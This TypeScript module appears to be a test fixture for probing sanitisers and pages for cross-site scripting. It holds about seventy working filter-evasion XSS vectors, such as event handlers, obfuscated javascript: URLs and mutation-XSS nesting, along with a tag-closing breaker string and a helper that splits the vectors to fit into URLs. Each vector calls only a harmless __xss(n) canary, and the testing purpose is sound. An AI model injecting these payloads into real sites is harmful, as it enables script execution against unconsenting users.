/** Ends whatever the vector before may have left open, so that each stands by itself. */
export const breaker = `'">--></style></title></textarea></noscript></script></template></select></svg></math>`;

/** A call that tells which vector ran; small enough for the narrow ones. */
const call = (n: number): string => `__xss(${n})`;

type Vector = (run: string) => string;

/** Markup that runs a script in some browser, some sanitiser or some place of a page. */
const shapes: readonly Vector[] = [
  (x) => `<script>${x}</script>`,
  (x) => `<ScRiPt >${x}</sCrIpT >`,
  (x) => `<script src="data:text/javascript,${x}"></script>`,
  (x) => `<scr<script>ipt>${x}</scr</script>ipt>`,
  (x) => `<img src=x onerror=${x}>`,
  (x) => `<img src=x onerror="${x}"//`,
  (x) => `<img src=x:x onerror\x09=\x0a${x}>`,
  (x) => `<IMG SRC=/ OnErRoR="${x}">`,
  (x) => `<img/src=x/onerror=${x}>`,
  (x) => `<img srcset=x onerror=${x}>`,
  (x) => `<image src=x onerror=${x}>`,
  (x) => `<svg onload=${x}>`,
  (x) => `<svg/onload=${x}>`,
  (x) => `<svg><script>${x}</script></svg>`,
  (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`,
  (x) => `<svg><set onbegin=${x} attributeName=x to=y>`,
  (x) => `<svg><a xlink:href="javascript:${x}"><text x=0 y=9>go</text></a></svg>`,
  (x) => `<svg><a><animate attributeName=href values=javascript:${x} /><text x=0 y=9>go</text></a></svg>`,
  (x) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${x}'/></svg>#x">`,
  (x) => `<svg><foreignObject><body onload=${x}></foreignObject></svg>`,
  (x) => `<svg><style><img src=x onerror=${x}></style></svg>`,
  (x) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${x}></style></mglyph></table></mtext></math>`,
  (x) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${x}></annotation-xml></math>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${x}>`,
  (x) => `<math href="javascript:${x}">go</math>`,
  (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`,
  (x) => `<p title="--><img src=x onerror=${x}>">`,
  (x) => `<!--><img src=x onerror=${x}>-->`,
  (x) => `<![CDATA[><img src=x onerror=${x}>]]>`,
  (x) => `<template><img src=x onerror=${x}></template>`,
  (x) => `<textarea></textarea><img src=x onerror=${x}>`,
  (x) => `<select><style></select><img src=x onerror=${x}></style>`,
  (x) => `<table><td background="javascript:${x}"><img src=x onerror=${x}>`,
  (x) => `<body onload=${x}>`,
  (x) => `<iframe src="javascript:parent.${x}"></iframe>`,
  (x) => `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`,
  (x) => `<iframe onload=${x}></iframe>`,
  (x) => `<object data="javascript:${x}" onerror=${x}></object>`,
  (x) => `<embed src="javascript:${x}" onload=${x}>`,
  (x) => `<video><source onerror=${x}></video>`,
  (x) => `<video src=x onerror=${x}></video>`,
  (x) => `<audio src=x onerror=${x}></audio>`,
  (x) => `<details open ontoggle=${x}>x</details>`,
  (x) => `<input autofocus onfocus=${x}>`,
  (x) => `<select autofocus onfocus=${x}></select>`,
  (x) => `<button onclick=${x}>go</button>`,
  (x) => `<form action="javascript:${x}"><button>go</button></form>`,
  (x) => `<button form=f1 formaction="javascript:${x}">go</button><form id=f1></form>`,
  (x) => `<isindex type=image src=1 onerror=${x}>`,
  (x) => `<marquee onstart=${x}>x</marquee>`,
  (x) => `<p onmouseover=${x}>x</p>`,
  (x) => `<p tabindex=0 onfocus=${x}>x</p>`,
  (x) => `<p onclick=${x} id=p1>x</p>`,
  (x) => `<h1 onpointerenter='${x}'>x</h1>`,
  (x) => `<xss onclick=${x}>x</xss>`,
  (x) => `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=${x}>x</p>`,
  (x) => `<a href="javascript:${x}">go</a>`,
  (x) => `<a href="JaVaScRiPt:${x}">go</a>`,
  (x) => `<a href=" javascript:${x}">go</a>`,
  (x) => `<a href="java\tscript:${x}">go</a>`,
  (x) => `<a href="java&#10;script:${x}">go</a>`,
  (x) => `<a href="&#x6a;avascript:${x}">go</a>`,
  (x) => `<a href="javascript&colon;${x}">go</a>`,
  (x) => `<a href="\x01javascript:${x}">go</a>`,
  (x) => `<a href="javascript://%0a${x}">go</a>`,
  (x) => `<a href="data:text/html,<script>opener.${x}</script>">go</a>`,
  (x) => `<a href="vbscript:${x}" onclick=${x}>go</a>`,
  (x) => `<a id=x tabindex=1 onfocusin=${x}>go</a>`,
  (x) => `<area href="javascript:${x}">`,
  (x) => `<meta http-equiv=refresh content="0;url=javascript:${x}"><link rel=stylesheet href=x onerror=${x}>`,
  (x) => `<base href="javascript:/"><a href="//\n${x}">go</a><img src=x onerror=${x}>`,
  (x) => `" onmouseover="${x}" autofocus onfocus="${x}`,
  (x) => `'><img src=x onerror=${x}>`,
  (x) => `\${${x}}{{constructor.constructor('${x}')()}}<img src=x onerror=${x}>`,
];

/** Each runs `__xss(n)` with its own number. */
export const vectors: readonly string[] = shapes.map((shape, n) => shape(call(n)));

export const allVectors: string = vectors.map((vector) => `${breaker}${vector}`).join('');

/** The vectors in so many pieces that each fits into an address. */
export function pieces(longest: number): string[] {
  const all: string[] = [''];
  for (const vector of vectors) {
    const last = `${all.at(-1)}${breaker}${vector}`;
    if (encodeURIComponent(last).length <= longest) all[all.length - 1] = last;
    else all.push(`${breaker}${vector}`);
  }
  return all;
}
